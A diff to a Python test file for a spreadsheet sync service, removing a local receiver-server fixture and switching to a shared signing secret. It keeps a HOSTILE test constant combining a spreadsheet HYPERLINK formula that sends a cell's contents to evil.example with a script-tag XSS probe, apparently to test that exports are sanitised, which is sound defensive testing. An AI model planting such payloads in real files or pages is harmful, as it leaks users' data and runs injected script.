@@ -6,32 +6,19 @@ from __future__ import annotations
 
 import csv
 import io
-import threading
 from datetime import date
 
 import openpyxl
-import pytest
-from werkzeug.serving import make_server
 
-from conftest import sheet_url
+from conftest import RECEIVER_SECRET, sheet_url
 from mentor_world import EMAILS, EXAMPLE, build
-from sync_service import db, signing
+from sync_service import db
 from sync_service.delivery import Endpoint, run_once
 from sync_service.models import Member
-from sync_service.receiver import create_receiver, received_documents
+from sync_service.receiver import received_documents
 
-SECRET = signing.new_secret()
+SECRET = RECEIVER_SECRET
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>'
-
-
-@pytest.fixture
-def receiver_server(tmp_path):
-    app = create_receiver({"SIGNING_SECRETS": [SECRET], "RECEIVER_DATABASE": str(tmp_path / "inst.sqlite3")})
-    server = make_server("127.0.0.1", 0, app, threaded=True)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    yield f"http://127.0.0.1:{server.server_port}/cpd/submissions", str(tmp_path / "inst.sqlite3")
-    server.shutdown()
 
 
 def header_columns(sheet, row=9) -> dict[str, int]:
